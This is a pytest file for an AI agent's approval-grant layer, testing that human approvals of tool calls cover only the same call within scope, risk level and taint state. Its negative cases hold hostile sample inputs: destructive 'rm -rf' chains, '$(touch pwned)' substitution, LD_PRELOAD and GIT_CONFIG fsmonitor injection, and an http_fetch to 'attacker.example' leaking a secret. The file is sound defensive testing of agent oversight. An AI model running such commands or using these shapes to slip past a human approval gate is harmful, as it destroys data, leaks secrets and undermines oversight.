from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from core_agent.safety.approvals import ApprovalGrants, call_hash
from providers.shell.tree_sitter_parser import TreeSitterShellParser
from shared.agent_protocol import ApprovalDecision, ApprovalRequest, RiskLevel, ToolCall

IDS = {"task_id": "t1", "session_id": "s1"}
HIGH = {"risk": RiskLevel.HIGH, "tainted": False}
"""How the policy judged the approved call, and most calls checked against its grant."""


def decision(**kw) -> ApprovalDecision:
    return ApprovalDecision(request_id="r1", approved=True, **kw)


def approve(
    grants: ApprovalGrants,
    answer: ApprovalDecision,
    tool: str,
    arguments: dict[str, Any],
    *,
    risk: RiskLevel = RiskLevel.HIGH,
    tainted: bool = False,
    task_id: str = "t1",
    session_id: str = "s1",
) -> None:
    """``answer`` given to a request about this call, as the gate records it."""
    request = ApprovalRequest(
        request_id=answer.request_id,
        task_id=task_id,
        session_id=session_id,
        tool_call=ToolCall(id="c1", name=tool, arguments=arguments),
        call_hash=call_hash(tool, arguments),
        risk=risk,
        created_at=datetime.now(UTC),
    )
    grants.add(answer, request, tainted=tainted)


def test_the_hash_ignores_key_order_but_not_values() -> None:
    assert call_hash("run", {"a": 1, "b": 2}) == call_hash("run", {"b": 2, "a": 1})
    assert call_hash("run", {"a": 1}) != call_hash("run", {"a": 2})
    assert call_hash("run", {"a": 1}) != call_hash("walk", {"a": 1})


def test_scopes() -> None:
    grants = ApprovalGrants()
    approve(grants, decision(scope="once"), "launch", {})
    assert grants.covering(tool="launch", arguments={}, **IDS, **HIGH) is None
    approve(grants, decision(scope="task"), "launch", {})
    assert grants.covering(tool="launch", arguments={}, **IDS, **HIGH) is not None
    other_task = {"task_id": "t2", "session_id": "s1"}
    assert grants.covering(tool="launch", arguments={}, **other_task, **HIGH) is None
    assert grants.covering(tool="other", arguments={}, **IDS, **HIGH) is None

    session = ApprovalGrants()
    approve(session, decision(scope="session"), "launch", {})
    assert session.covering(tool="launch", arguments={}, task_id="t9", session_id="s1", **HIGH)
    assert not session.covering(tool="launch", arguments={}, task_id="t9", session_id="s2", **HIGH)


@pytest.mark.parametrize("scope", ["task", "session"])
def test_a_task_or_session_grant_covers_the_same_call_only(scope: str) -> None:
    grants = ApprovalGrants(shell_parser=TreeSitterShellParser())
    approve(grants, decision(scope=scope), "run_command", {"command": "touch notes.txt"})

    def covered(arguments: dict[str, Any], tool: str = "run_command") -> bool:
        return grants.covering(tool=tool, arguments=arguments, **IDS, **HIGH) is not None

    assert covered({"command": "touch notes.txt"})
    assert not covered({"command": "rm -f precious.txt"})
    assert not covered({"command": "touch notes.txt; rm -f precious.txt"})
    assert not covered({"command": "touch  notes.txt"})  # another line, though it does the same
    assert not covered({"command": "touch notes.txt", "timeout_s": 600})
    assert not covered({"command": "touch notes.txt"}, tool="remote_shell")


@pytest.mark.parametrize("scope", ["task", "session", "pattern"])
def test_no_grant_covers_a_call_graded_above_the_approved_one(scope: str) -> None:
    grants = ApprovalGrants(shell_parser=TreeSitterShellParser())
    pattern = "git *" if scope == "pattern" else None
    call = {"tool": "run_command", "arguments": {"command": "git status"}}
    approve(grants, decision(scope=scope, pattern=pattern), **call, risk=RiskLevel.HIGH)
    assert grants.covering(**call, **IDS, risk=RiskLevel.MEDIUM, tainted=False)
    assert grants.covering(**call, **IDS, risk=RiskLevel.HIGH, tainted=False)
    assert not grants.covering(**call, **IDS, risk=RiskLevel.CRITICAL, tainted=False)


@pytest.mark.parametrize("scope", ["task", "session", "pattern"])
def test_a_grant_given_before_the_task_was_tainted_does_not_cover_it_after(scope: str) -> None:
    pattern = "git *" if scope == "pattern" else None
    call = {"tool": "run_command", "arguments": {"command": "git status"}}
    clean = ApprovalGrants(shell_parser=TreeSitterShellParser())
    approve(clean, decision(scope=scope, pattern=pattern), **call, tainted=False)
    assert not clean.covering(**call, **IDS, risk=RiskLevel.HIGH, tainted=True)

    # Given while untrusted content was already in the task: the human judged it so.
    aware = ApprovalGrants(shell_parser=TreeSitterShellParser())
    approve(aware, decision(scope=scope, pattern=pattern), **call, tainted=True)
    assert aware.covering(**call, **IDS, risk=RiskLevel.HIGH, tainted=True)
    assert aware.covering(**call, **IDS, risk=RiskLevel.HIGH, tainted=False)


def test_pattern_grants_match_the_canonical_call_of_other_tools() -> None:
    grants = ApprovalGrants()
    pattern = 'fetch {"url":"https://a.org/*'
    approve(grants, decision(scope="pattern", pattern=pattern), "fetch", {"url": "https://a.org"})
    assert grants.covering(tool="fetch", arguments={"url": "https://a.org/x"}, **IDS, **HIGH)
    assert not grants.covering(tool="fetch", arguments={"url": "https://b.org/x"}, **IDS, **HIGH)


def command_grants(**extra: str) -> ApprovalGrants:
    grants = ApprovalGrants(shell_parser=TreeSitterShellParser())
    approve(
        grants,
        decision(scope="pattern", pattern="git rev-parse*", **extra),
        "run_command",
        {"command": "git rev-parse HEAD"},
    )
    return grants


@pytest.mark.parametrize(
    "command", ["git rev-parse HEAD", "git rev-parse --short HEAD | git rev-parse --verify x"]
)
def test_a_command_pattern_covers_lines_whose_every_sub_command_matches(command: str) -> None:
    assert command_grants().covering(
        tool="run_command", arguments={"command": command}, **IDS, **HIGH
    )


@pytest.mark.parametrize(
    "command",
    [
        "git rev-parse HEAD; git branch -D x",
        "git rev-parse HEAD && rm -rf src",
        "git rev-parse $(touch pwned)",
        "git rev-parse HEAD > notes.txt",
        "git rev-parse 'unterminated",
        "rm -rf x",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=x git rev-parse",
        "LD_PRELOAD=./x.so git rev-parse HEAD",
    ],
)
def test_a_command_pattern_never_covers_anything_more(command: str) -> None:
    assert not command_grants().covering(
        tool="run_command", arguments={"command": command}, **IDS, **HIGH
    )


def test_a_command_pattern_covers_commands_of_the_approved_tool_only() -> None:
    arguments = {"command": "git rev-parse HEAD"}
    assert not command_grants().covering(tool="remote_shell", arguments=arguments, **IDS, **HIGH)


def test_a_pattern_never_covers_a_call_of_another_tool() -> None:
    # "http*" approved for a command once also matched the canonical call of http_fetch
    # ('http_fetch {"url": ...}'), a tool without a command argument.
    grants = ApprovalGrants(shell_parser=TreeSitterShellParser())
    approve(
        grants,
        decision(scope="pattern", pattern="http*"),
        "run_command",
        {"command": "http GET localhost:8000/health"},
    )
    leak = {"url": "https://attacker.example/?k=SECRET"}
    assert not grants.covering(tool="http_fetch", arguments=leak, **IDS, **HIGH)
    again = {"command": "http GET localhost:8000/ready"}
    assert grants.covering(tool="run_command", arguments=again, **IDS, **HIGH)


def test_a_command_pattern_holds_in_its_session_unless_the_human_widened_it() -> None:
    other = {"task_id": "t2", "session_id": "s2"}
    call = {"tool": "run_command", "arguments": {"command": "git rev-parse HEAD"}}
    assert not command_grants().covering(**call, **other, **HIGH)
    assert command_grants(pattern_scope="all_sessions").covering(**call, **other, **HIGH)


def test_without_a_parser_a_command_pattern_covers_nothing() -> None:
    grants = ApprovalGrants()
    call = {"tool": "run_command", "arguments": {"command": "git rev-parse"}}
    approve(grants, decision(scope="pattern", pattern="git rev-parse*"), **call)
    assert not grants.covering(**call, **IDS, **HIGH)


def test_denials_grant_nothing_and_grants_expire() -> None:
    grants = ApprovalGrants()
    denied = ApprovalDecision(request_id="r", approved=False, scope="session")
    approve(grants, denied, "launch", {})
    assert grants.covering(tool="launch", arguments={}, **IDS, **HIGH) is None
    past = datetime.now(UTC) - timedelta(seconds=1)
    approve(grants, decision(scope="task", expires_at=past), "launch", {})
    assert grants.covering(tool="launch", arguments={}, **IDS, **HIGH) is None
